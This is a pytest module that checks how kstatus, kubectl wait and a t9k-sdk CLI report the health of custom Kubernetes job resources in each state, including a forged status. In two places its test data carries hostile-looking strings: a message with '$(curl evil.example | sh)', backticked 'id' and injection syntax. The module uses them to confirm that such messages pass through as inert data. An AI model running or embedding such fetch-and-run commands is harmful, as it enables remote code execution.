"""What kstatus (sigs.k8s.io/cli-utils, what Flux and kpt read health with), `kubectl wait` and
`t9k-sdk wait` say about real jobs of the three kinds in every state, on the local control plane.

The states and how they are reached: tests/cluster/job_states.py. The contract: the table in
t9k_sdk/reconcile/status/conditions.py (docs/operator/semantics.md, "Health for GitOps tools").
"""

from __future__ import annotations

import copy
import json
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client as k8s
from kubernetes.client.exceptions import ApiException

from t9k_sdk import models
from t9k_sdk.cli import main
from t9k_sdk.client import Client
from tests.cluster.e2e_helpers import E2E, Jobs, condition, stays
from tests.cluster.job_states import KINDS, STATES, collect_job_states
from tests.kstatus_runner import kstatus
from tools import cluster as cluster_tool
from tools.kit import generic_job, replica, wait_for


@pytest.fixture(scope="module")
def states(
    e2e: E2E, custom: k8s.CustomObjectsApi, core_v1: k8s.CoreV1Api, kubeconfig: Path
) -> Iterator[dict[str, dict[str, dict[str, Any]]]]:
    driver = Jobs(custom, core_v1, e2e)
    with Client(kubeconfig=str(kubeconfig), namespace=e2e.namespace) as sdk:
        try:
            yield collect_job_states(driver, sdk)
        finally:
            driver.close()


# state -> (kstatus status, the Ready/Reconciling/Stalled statuses, Ready's reason or None)
EXPECTED: dict[str, tuple[str, tuple[str, str, str] | None, str | None]] = {
    "created": ("InProgress", None, None),
    "pending": ("InProgress", ("False", "True", "False"), "Pending"),
    "pausing": ("InProgress", ("False", "True", "False"), "Pausing"),
    "paused": ("Current", ("True", "False", "False"), "Paused"),
    "resuming": ("InProgress", ("False", "True", "False"), "Resuming"),
    "running": ("Current", ("True", "False", "False"), "Running"),
    "spec-edited": ("InProgress", ("True", "False", "False"), "Running"),
    "spec-observed": ("Current", ("True", "False", "False"), "Running"),
    "succeeded": ("Current", ("True", "False", "False"), "Succeeded"),
    "failed": ("Failed", ("False", "False", "True"), None),
    "invalid-spec": ("Failed", ("False", "False", "True"), "InvalidSpec"),
    "blocked": ("Failed", ("False", "False", "True"), "NameConflict"),
}


def health(job: Mapping[str, Any]) -> tuple[str, str, str]:
    status = job.get("status") or {}
    return tuple(  # type: ignore[return-value]
        condition(status, t).get("status", "") for t in ("Ready", "Reconciling", "Stalled")
    )


@pytest.mark.parametrize("state", STATES)
def test_kstatus_reads_each_state_of_each_kind_as_the_contract_says(
    states: dict[str, dict[str, dict[str, Any]]], state: str
) -> None:
    jobs = states[state]
    kinds = [k for k in KINDS if state != "invalid-spec" or k != "GenericJob"]
    assert sorted(jobs) == sorted(kinds)
    want, conditions, reason = EXPECTED[state]
    for kind, result in zip(kinds, kstatus(*(jobs[k] for k in kinds)), strict=True):
        job = jobs[kind]
        where = f"{kind} {job['metadata']['name']} ({state}): {json.dumps(job.get('status'))}"
        assert result["status"] == want, f"kstatus says {result}; {where}"
        if conditions is not None:
            assert health(job) == conditions, where
        status = job.get("status") or {}
        if reason is not None:
            assert condition(status, "Ready")["reason"] == reason, where
        if state in ("created", "spec-edited"):
            generation = job["metadata"]["generation"]
            assert status.get("observedGeneration", 0) < generation, where
            assert result["message"] == (
                f"{kind} generation is {generation}, but latest observed generation is"
                f" {status.get('observedGeneration', 0)}"
            )
        else:
            assert status["observedGeneration"] == job["metadata"]["generation"], where
        if want == "Failed":  # kstatus' message is the job's own
            assert result["message"] == condition(status, "Stalled")["message"], where
        if state == "pending":
            assert "cannot be scheduled" in result["message"], result
            assert result["message"] == condition(status, "Running")["message"]


def test_failures_name_their_cause_in_what_kstatus_reports(
    states: dict[str, dict[str, dict[str, Any]]],
) -> None:
    failed, bad, blocked = (
        kstatus(*states[s].values()) for s in ("failed", "invalid-spec", "blocked")
    )
    assert "failed with exit code 1" in failed[1]["message"]  # the DeepSpeedJob's worker
    assert all(r["message"].startswith("spec.") for r in bad), bad
    for result in blocked:
        assert "exists but is not this job's" in result["message"], result
        assert result["conditions"][0]["reason"] == "NameConflict"


def test_finished_and_paused_jobs_are_not_rewritten(
    states: dict[str, dict[str, dict[str, Any]]], e2e: E2E, custom: k8s.CustomObjectsApi
) -> None:
    """Converged jobs (finished, paused, invalid) get no more status writes: the conditions
    GitOps tools read do not churn."""

    def versions() -> list[str]:
        out = []
        for state in ("succeeded", "failed", "invalid-spec", "blocked"):
            for kind, job in sorted(states[state].items()):
                plural = models.JOB_KINDS[kind].PLURAL
                now = custom.get_namespaced_custom_object(
                    models.GROUP, models.VERSION, e2e.namespace, plural, job["metadata"]["name"]
                )
                out.append(f"{state}/{kind}={now['metadata']['resourceVersion']}")
        return out

    samples = stays(versions, seconds=3, interval=0.5)
    assert all(s == samples[0] for s in samples), samples


# --- readers: kubectl wait, t9k-sdk wait/get/describe -------------------------------------------


def _kubectl(kubeconfig: Path, *args: str) -> subprocess.CompletedProcess[str]:
    binary = cluster_tool.binary_dir(build=False) / "kubectl"
    return subprocess.run(
        [str(binary), "--kubeconfig", str(kubeconfig), *args],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )


def test_kubectl_wait_and_t9k_sdk_wait_for_the_ready_condition(
    jobs: Jobs, kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    jobs.create(generic_job("kw", replica("worker", 2)))
    ns = jobs.namespace
    done = _kubectl(
        kubeconfig, "wait", "-n", ns, "--for=condition=Ready", "genericjob/kw", "--timeout=60s"
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "genericjob.batch.tensorstack.dev/kw condition met"

    code = main(["wait", "gj", "kw", "--for", "condition=Ready", "--timeout", "30s",
                 "--kubeconfig", str(kubeconfig), "-n", ns])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err
    assert out.startswith("genericjob/kw condition=Ready reached after ")

    # Ready is not "finished" (a newcomer's misreading): the job runs on, Completed is not set
    early = _kubectl(
        kubeconfig, "wait", "-n", ns, "--for=condition=Completed", "genericjob/kw", "--timeout=2s"
    )
    assert early.returncode != 0
    assert "timed out" in early.stderr, early.stderr

    wide = _kubectl(kubeconfig, "get", "-n", ns, "gj", "kw", "-o", "wide")
    assert wide.returncode == 0, wide.stderr
    header, row = wide.stdout.splitlines()
    assert header.split()[:2] == ["NAME", "PHASE"]
    assert "READY" in header.split()
    assert row.split()[header.split().index("READY")] == "True"

    code = main(["describe", "gj", "kw", "--kubeconfig", str(kubeconfig), "-n", ns])
    out, err = capsys.readouterr()
    assert code == 0, err
    for type_ in ("Ready", "Reconciling", "Stalled"):
        assert type_ in out, out


def test_waiting_for_ready_on_a_blocked_job_fails_with_what_blocks_it(
    jobs: Jobs, kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    jobs.core_v1.create_namespaced_pod(
        jobs.namespace,
        k8s.V1Pod(
            metadata=k8s.V1ObjectMeta(name="kb-worker-0"),
            spec=k8s.V1PodSpec(containers=[k8s.V1Container(name="c", image="x")]),
        ),
    )
    jobs.create(generic_job("kb", replica("worker", 1)))
    code = main(["wait", "gj", "kb", "--for", "condition=Ready", "--timeout", "60s",
                 "--stuck-grace", "0", "--kubeconfig", str(kubeconfig), "-n", jobs.namespace])  # fmt: skip
    out, err = capsys.readouterr()
    assert code != 0, out
    assert "NameConflict" in err, err
    assert "Pod kb-worker-0 exists but is not this job's" in err, err


# --- a foreign status writer ----------------------------------------------------------------------


def _put_status(jobs: Jobs, name: str, status: dict[str, Any]) -> None:
    """Replace the job's status as any client with access to the status subresource can."""
    job = jobs.read(name)
    job["status"] = status
    jobs.custom.replace_namespaced_custom_object_status(
        models.GROUP, models.VERSION, jobs.namespace, "genericjobs", name, job
    )


def test_a_status_written_by_someone_else_is_refused_or_rewritten(
    jobs: Jobs, kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    jobs.create(generic_job("victim", replica("worker", 1)))
    honest = jobs.wait_status(
        "victim",
        lambda s: condition(s, "Ready").get("status") == "True",
        "Ready=True",
    )
    # a condition type nobody knows: the API server refuses it, naming the field and the values
    bogus = {**honest, "conditions": [*honest["conditions"], {"type": "Bogus", "status": "True"}]}
    with pytest.raises(ApiException) as refused:
        _put_status(jobs, "victim", bogus)
    assert refused.value.status == 422
    assert "status.conditions[" in refused.value.body
    assert ".type" in refused.value.body
    message = json.loads(refused.value.body)["message"]
    assert 'Unsupported value: "Bogus"' in message, message
    assert '"Paused", "Ready", "Reconciling", "Stalled"' in message, message

    # the largest observedGeneration there is, and a Ready=False of its own
    forged = {
        **honest,
        "observedGeneration": 2**63 - 1,
        "conditions": [
            (
                {**c, "status": "False", "reason": "Forged", "message": "$(curl evil)"}
                if c["type"] == "Ready"
                else c
            )
            for c in honest["conditions"]
        ],
    }
    _put_status(jobs, "victim", forged)
    job = wait_for(
        lambda: jobs.read("victim"),
        lambda j: j["status"]["observedGeneration"] == j["metadata"]["generation"]
        and condition(j["status"], "Ready").get("reason") == "Running",
        "the operator to write its own view back",
    )
    assert condition(job["status"], "Ready")["status"] == "True"
    assert kstatus(job)[0]["status"] == "Current"
    assert job["status"]["phase"] == "Running"  # not failed as an invalid spec
    code = main(["get", "gj", "victim", "--kubeconfig", str(kubeconfig), "-n", jobs.namespace])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "Running" in out


# --- the pure core's statuses, read by the real kstatus (no cluster needed) -----------------------


def _sim_states() -> dict[str, dict[str, Any]]:
    """A GenericJob through the states of the table, as the pure core writes them."""
    from tests.reconcile.sim import Sim

    def job(**spec: Any) -> dict[str, Any]:
        manifest = generic_job("sim", replica("worker", 1), **spec)
        manifest["metadata"].update(generation=1, uid="u", namespace="ns")
        return manifest

    out: dict[str, dict[str, Any]] = {}
    sim = Sim(job())
    out["created"] = {**sim.job, "status": {"observedGeneration": 0}}
    sim.step()
    out["pending"] = copy.deepcopy(sim.job)
    sim.run()
    sim.settle()
    out["running"] = copy.deepcopy(sim.job)
    sim.job["metadata"]["generation"] = 2
    out["spec-edited"] = copy.deepcopy(sim.job)
    sim.settle()
    out["spec-observed"] = copy.deepcopy(sim.job)
    sim.job["spec"]["runMode"] = {"pause": {"enabled": True}}
    sim.job["metadata"]["generation"] = 3
    sim.step()
    out["pausing"] = copy.deepcopy(sim.job)
    sim.drain_deletions()
    sim.settle()
    out["paused"] = copy.deepcopy(sim.job)
    sim.job["spec"]["runMode"] = {"pause": {"enabled": False}}
    sim.job["metadata"]["generation"] = 4
    sim.step()
    out["resuming"] = copy.deepcopy(sim.job)
    sim.run()
    sim.settle()
    sim.finish("sim-worker-0", code=0)
    sim.settle()
    out["succeeded"] = copy.deepcopy(sim.job)

    failing = Sim(job())
    failing.settle()
    failing.finish("sim-worker-0", code=1)
    failing.settle()
    out["failed"] = copy.deepcopy(failing.job)

    blocked = Sim(job())
    blocked.pods["sim-worker-0"] = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "sim-worker-0", "namespace": "ns", "uid": "theirs"},
        "spec": {"containers": [{"name": "c", "image": "x"}]},
        "status": {"phase": "Running"},
    }
    blocked.step()
    out["blocked"] = copy.deepcopy(blocked.job)
    return out


def test_kstatus_reads_the_pure_cores_statuses_as_the_contract_says() -> None:
    states = _sim_states()
    names = sorted(states)
    for state, result in zip(names, kstatus(*(states[n] for n in names)), strict=True):
        assert result["status"] == EXPECTED[state][0], (state, result, states[state]["status"])
        conditions = EXPECTED[state][1]
        if conditions is not None:
            assert health(states[state]) == conditions, state


def test_kstatus_passes_hostile_messages_through_verbatim() -> None:
    """Messages come from pods and tenants: quotes, command substitutions, newlines, YAML and
    Lua syntax reach kstatus as data and come back unchanged."""
    message = 'it said "$(curl evil.example | sh)"; `id`\n--- {a: [1]} ]]--\u202e end'
    job = generic_job("h", replica("worker", 1))
    job["metadata"].update(generation=9223372036854775807)
    job["status"] = {
        "observedGeneration": 9223372036854775807,
        "conditions": [{"type": "Stalled", "status": "True", "reason": "X", "message": message}],
    }
    (result,) = kstatus(job)
    assert (result["status"], result["message"]) == ("Failed", message)
